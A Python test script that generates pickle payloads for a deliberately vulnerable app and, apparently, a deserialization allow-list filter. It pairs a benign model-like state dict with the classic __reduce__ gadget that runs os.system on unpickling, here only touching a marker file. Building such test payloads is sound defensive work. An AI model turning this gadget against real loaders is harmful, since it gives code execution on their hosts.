"""Payloads for the vulnerable pickle app, written raw to stdout.

  payloads.py exploit MARKER [PROTOCOL]  a pickle whose loading runs
                                         os.system("touch MARKER"): harmless,
                                         but proof that the loader ran a command
  payloads.py benign [PROTOCOL]          a model-like state dict (OrderedDict of
                                         float lists), on deserwall's ML allow-list

PROTOCOL defaults to pickle.DEFAULT_PROTOCOL. Python 3 standard library only.
"""

import os
import pickle
import shlex
import sys
from collections import OrderedDict


class TouchMarker:
    """Unpickling this object calls os.system: the classic __reduce__ exploit."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, ("touch " + shlex.quote(self.marker),))


def benign_state_dict():
    return OrderedDict(
        [
            ("layer1.weight", [0.25, -0.5, 0.125, 1.0]),
            ("layer1.bias", [0.0, 0.01]),
            ("epochs", 3),
            ("name", "tiny-demo-model"),
        ]
    )


def main(argv):
    if len(argv) >= 2 and argv[0] == "exploit":
        obj, rest = TouchMarker(argv[1]), argv[2:]
    elif len(argv) >= 1 and argv[0] == "benign":
        obj, rest = benign_state_dict(), argv[1:]
    else:
        raise SystemExit(__doc__)
    protocol = int(rest[0]) if rest else pickle.DEFAULT_PROTOCOL
    sys.stdout.buffer.write(pickle.dumps(obj, protocol=protocol))
    sys.stdout.buffer.flush()


if __name__ == "__main__":
    main(sys.argv[1:])
